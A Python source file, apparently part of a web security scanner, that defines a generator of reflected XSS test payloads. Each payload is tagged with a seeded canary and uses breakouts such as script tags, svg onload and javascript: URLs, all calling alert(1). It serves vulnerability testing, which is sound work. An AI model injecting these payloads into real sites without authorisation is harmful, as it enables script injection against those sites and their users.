from webinject.generators.base import BaseGenerator, DEFAULT_SIZE


class XssInjection(BaseGenerator):
    """
    Reflected XSS payloads.
    Each payload starts with a canary derived from the seed so a reflection
    can be tied back to the request that caused it.  Every variant carries
    markup that a correct encoder has to escape.
    """

    def __init__(self):
        self.name = "Cross-Site Scripting (Reflected XSS)"
        # Variants covering text, attribute and tag-closing contexts
        self.templates = [
            "{c}<script>alert(1)</script>",
            "{c}\"><svg/onload=alert(1)>",
            "{c}'><img src=x onerror=alert(1)>",
            "{c}</title><svg/onload=alert(1)>",
            "{c}--><svg/onload=alert(1)>",                 # breaks HTML comment
            "{c}</script><script>alert(1)</script>",       # leaves <script>
            "{c}\"><body onfocus=alert(1) autofocus>",     # attribute
            "{c}<iframe src=\"javascript:alert(1)\">",
            "{c}<a href='javascript:alert(1)'>x</a>",
            "{c}`-alert(1)-`<b>",                          # odd contexts
        ]

    def canary(self, seed=0) -> str:
        return self.rand(self.rng(seed))

    def generate(self, size=DEFAULT_SIZE, seed=0):
        c = self.canary(seed)
        for t in self.templates:
            yield t.format(c=c)
